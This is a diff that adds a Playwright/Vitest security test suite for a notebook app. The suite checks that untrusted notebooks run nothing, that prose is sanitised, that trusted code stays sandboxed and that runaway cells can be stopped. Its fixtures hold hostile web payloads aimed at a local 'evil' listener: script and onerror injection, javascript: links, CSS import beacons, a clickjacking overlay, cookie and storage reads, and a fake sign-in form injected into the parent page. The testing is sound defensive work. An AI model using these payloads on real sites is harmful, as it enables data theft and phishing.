@@ -1,0 +1,301 @@
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import { OUTPUT, startHarness, type Harness } from "./harness.ts";
+import { cell, cells, ready } from "./helpers.ts";
+
+/**
+ * A colleague's notebook, opened as a careful attacker would write it. Every probe has a
+ * listener on another loopback port that records each request it receives: nothing may
+ * reach it, whatever the notebook tries.
+ */
+
+let harness: Harness;
+let listener: Server;
+/** every request the listener received (path), WebSocket upgrades included */
+let received: string[] = [];
+let evil = "";
+
+beforeAll(async () => {
+  harness = await startHarness();
+  listener = createServer((req, res) => {
+    received.push(req.url ?? "");
+    res.setHeader("Access-Control-Allow-Origin", "*");
+    res.end("leaked");
+  });
+  listener.on("upgrade", (req, socket) => {
+    received.push(`upgrade ${req.url ?? ""}`);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
+  evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+});
+
+afterAll(async () => {
+  await harness?.close();
+  await new Promise((resolve) => listener?.close(resolve));
+});
+
+beforeEach(() => {
+  received = [];
+});
+
+/**
+ * Nothing reached the listener: no page, frame or worker of the app got a request out to it.
+ * (The browser's own request log lists attempts its policies then blocked, so the listener is
+ * the witness.)
+ */
+function nothingLeft(): void {
+  expect(received).toEqual([]);
+}
+
+async function openApp(): Promise<Page> {
+  const page = await harness.newPage();
+  await page.goto(harness.origin);
+  await ready(page);
+  return page;
+}
+
+async function openFile(page: Page, name: string, text: string): Promise<void> {
+  await page
+    .getByLabel("Open notebook file")
+    .setInputFiles({ name, mimeType: "text/markdown", buffer: Buffer.from(text) });
+  await page.getByRole("button", { name: "Trust and run" }).waitFor();
+  await ready(page);
+}
+
+const status = (page: Page, label: string) => cell(page, label).getByRole("status");
+
+/** Let whatever a notebook might have started (a timer, an image) have its chance. */
+async function settle(page: Page): Promise<void> {
+  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 300)));
+}
+
+describe("an untrusted notebook has no effect", () => {
+  it("opened from a file, reloaded, opened in a second tab: nothing runs and nothing is requested", async () => {
+    const page = await openApp();
+    await openFile(
+      page,
+      "leaky.md",
+      [
+        "---",
+        "title: Leaky",
+        "---",
+        "",
+        `![pixel](${evil}/prose-image.png)`,
+        "",
+        "```sql rows",
+        "SELECT 1 AS n",
+        "```",
+        "",
+        "```ts beacon",
+        `await fetch("${evil}/ts-ran?" + rows.numRows)`,
+        "```",
+        "",
+      ].join("\n"),
+    );
+    const url = page.url();
+    expect(await status(page, "SQL cell rows").textContent()).toBe("not run (untrusted)");
+    expect(await status(page, "TypeScript cell beacon").textContent()).toBe("not run (untrusted)");
+
+    // Reloading does not make the autosave trusted.
+    await page.reload();
+    await ready(page);
+    await page.getByRole("button", { name: "Trust and run" }).waitFor();
+    expect(await status(page, "TypeScript cell beacon").textContent()).toBe("not run (untrusted)");
+
+    // Nor does opening it in another tab.
+    const second = await page.context().newPage();
+    await second.goto(url);
+    await ready(second);
+    await second.getByRole("button", { name: "Trust and run" }).waitFor();
+    expect(await status(second, "SQL cell rows").textContent()).toBe("not run (untrusted)");
+    await settle(second);
+    await second.close();
+    await settle(page);
+    nothingLeft();
+    await page.context().close();
+  });
+
+  it("prose cannot script, fetch or restyle the page, and clicking anywhere trusts nothing", async () => {
+    const page = await openApp();
+    await openFile(
+      page,
+      "prose.md",
+      [
+        "---",
+        "title: Prose attacks",
+        "---",
+        "",
+        "# Quarterly review",
+        "",
+        `<script>fetch("${evil}/script")</script>`,
+        `<img src="x" onerror="fetch('${evil}/onerror')">`,
+        `<a href="javascript:fetch('${evil}/javascript')">read more</a>`,
+        `<img src="${evil}/img.png">`,
+        `<img srcset="${evil}/srcset.png 1x">`,
+        `<video poster="${evil}/poster.png"></video>`,
+        `<div style="background:url(${evil}/style-attr.png)">styled</div>`,
+        `<svg><image href="${evil}/svg-image.png"/></svg>`,
+        `<style>@import url(${evil}/import.css); body { background: url(${evil}/body.png) } button, a { position: fixed; inset: 0; width: 100vw; height: 100vh; opacity: 0.01; z-index: 99 }</style>`,
+        "",
+        "```ts",
+        `await fetch("${evil}/ts")`,
+        "```",
+        "",
+      ].join("\n"),
+    );
+    // Clicks all over the page, as someone reading it would: the trust banner stays.
+    for (const [x, y] of [
+      [640, 400],
+      [200, 300],
+      [900, 600],
+      [640, 120],
+    ])
+      await page.mouse.click(x!, y!);
+    // The javascript: link lost its address: clicking it does nothing.
+    await cells(page).getByText("read more").click({ force: true });
+    await settle(page);
+    await page.screenshot({ path: `${OUTPUT}/safety-prose.png` });
+    await page.getByRole("button", { name: "Trust and run" }).waitFor();
+    expect(await status(page, "TypeScript cell 2").textContent()).toBe("not run (untrusted)");
+    // The frame's prose kept none of it: no script, no style, no handler.
+    const frame = cells(page).locator("body");
+    expect(await frame.locator("script, style, [onerror], [style], [href^='javascript']").count()).toBe(0);
+    nothingLeft();
+    await page.context().close();
+  });
+});
+
+describe("trusted code is contained in the notebook frame", () => {
+  it("cannot reach the app's storage, page, cookies or the network, nor navigate or open windows", async () => {
+    const page = await openApp();
+    const header = await page.locator("header").first().innerHTML();
+    const appStorage = await page.evaluate(async () => (await indexedDB.databases()).length);
+    await openFile(
+      page,
+      "contained.md",
+      [
+        "---",
+        "title: Contained",
+        "---",
+        "",
+        "```ts tries",
+        "const out = {};",
+        "const attempt = async (name, fn) => {",
+        "  try { out[name] = `reached: ${String(await fn()).slice(0, 60)}`; }",
+        "  catch (error) { out[name] = `blocked: ${error?.name ?? error}`; }",
+        "};",
+        'await attempt("indexedDB", () => new Promise((res, rej) => { const r = indexedDB.open("strata"); r.onsuccess = () => res("opened"); r.onerror = () => rej(r.error); }));',
+        'await attempt("localStorage", () => localStorage.getItem("strata"));',
+        "await attempt(\"cookie\", () => document.cookie || 'empty');",
+        "await attempt(\"parent\", () => parent.document.querySelector('header').innerHTML = '<form>Sign in</form>');",
+        `await attempt("top", () => { top.location.href = "${evil}/top"; return "assigned"; });`,
+        `await attempt("open", () => { const w = window.open("${evil}/popup"); if (!w) throw new Error("refused"); return "opened"; });`,
+        `await attempt("fetch", () => fetch("${evil}/fetch"));`,
+        `await attempt("beacon", () => navigator.sendBeacon("${evil}/beacon", "x"));`,
+        `await attempt("image", () => new Promise((res, rej) => { const i = new Image(); i.onload = () => res("loaded"); i.onerror = () => rej(new Error("not loaded")); i.src = "${evil}/image.png"; }));`,
+        `await attempt("websocket", () => new Promise((res, rej) => { const ws = new WebSocket("${evil.replace("http", "ws")}/ws"); ws.onopen = () => res("open"); ws.onerror = () => rej(new Error("not open")); }));`,
+        `await attempt("eventsource", () => new Promise((res, rej) => { const es = new EventSource("${evil}/events"); es.onopen = () => res("open"); es.onerror = () => { es.close(); rej(new Error("not open")); }; }));`,
+        "out",
+        "```",
+        "",
+      ].join("\n"),
+    );
+    await page.getByRole("button", { name: "Trust and run" }).click();
+    await ready(page);
+    const shown = await cell(page, "TypeScript cell tries").locator("pre").textContent();
+    const out = JSON.parse(shown ?? "{}") as Record<string, string>;
+    for (const name of [
+      "indexedDB",
+      "localStorage",
+      "cookie",
+      "parent",
+      "open",
+      "fetch",
+      "image",
+      "websocket",
+      "eventsource",
+    ])
+      expect(out[name], `${name}: ${out[name]}`).toMatch(/^blocked/);
+    await settle(page);
+    nothingLeft();
+    // The app is as it was: same page, same header, its storage untouched.
+    expect(new URL(page.url()).origin).toBe(harness.origin);
+    expect(await page.locator("header").first().innerHTML()).toBe(header);
+    expect(await page.evaluate(async () => (await indexedDB.databases()).length)).toBe(appStorage);
+    expect(page.context().pages()).toHaveLength(1);
+    await page.context().close();
+  });
+});
+
+describe("a runaway cell", () => {
+  const runaway = [
+    "---",
+    "title: Runaway",
+    "---",
+    "",
+    "```sql before",
+    "SELECT 41 + 1 AS answer",
+    "```",
+    "",
+    "```ts spin",
+    "while (true) {}",
+    "```",
+    "",
+    "```ts after",
+    "before.numRows",
+    "```",
+    "",
+  ].join("\n");
+
+  it("shows as running with a Stop button in the app, which stays usable; Stop ends it and nothing is lost", async () => {
+    const page = await openApp();
+    await openFile(page, "runaway.md", runaway);
+    await page.getByRole("button", { name: "Trust and run" }).click();
+    const running = page.getByRole("status", { name: "Running" });
+    await running.getByText(/Running spin · \d+ s/).waitFor();
+    // The app answers while the frame spins: the title can be edited, and is saved.
+    await page.getByLabel("Notebook title").fill("Runaway, stopped");
+    const started = Date.now();
+    await running.getByRole("button", { name: "Stop" }).click();
+    await running.waitFor({ state: "hidden", timeout: 5_000 });
+    expect(Date.now() - started).toBeLessThan(5_000);
+    await expect.poll(() => status(page, "TypeScript cell spin").textContent()).toMatch(/error/);
+    expect(await cell(page, "TypeScript cell spin").getByRole("alert").textContent()).toMatch(
+      /Stopped after/,
+    );
+    await page
+      .getByRole("status", { name: "Save status" })
+      .getByText(/^Saved/)
+      .waitFor();
+    // Stopped is not finished: opened again, it does not run on its own.
+    await page.reload();
+    await ready(page);
+    await page.getByRole("status").getByText(/did not finish/).waitFor();
+    expect(await status(page, "TypeScript cell spin").textContent()).toBe("not run");
+    expect(await page.getByLabel("Notebook title").inputValue()).toBe("Runaway, stopped");
+    expect(await cells(page).getByRole("article").count()).toBe(3);
+    expect(
+      await cell(page, "TypeScript cell spin")
+        .getByLabel("Code of TypeScript cell spin")
+        .textContent(),
+    ).toBe("while (true) {}");
+    await page.context().close();
+  });
+
+  it("a notebook whose last run did not finish opens without running", async () => {
+    const page = await openApp();
+    await openFile(page, "runaway.md", runaway);
+    await page.getByRole("button", { name: "Trust and run" }).click();
+    await page.getByRole("status", { name: "Running" }).waitFor();
+    // The tab goes away mid-run (closed, crashed, reloaded): the next open does not run it.
+    await page.reload();
+    await ready(page);
+    await page.getByRole("status").getByText(/did not finish/).waitFor();
+    expect(await status(page, "SQL cell before").textContent()).toBe("not run");
+    expect(await status(page, "TypeScript cell spin").textContent()).toBe("not run");
+    await page.context().close();
+  });
+});
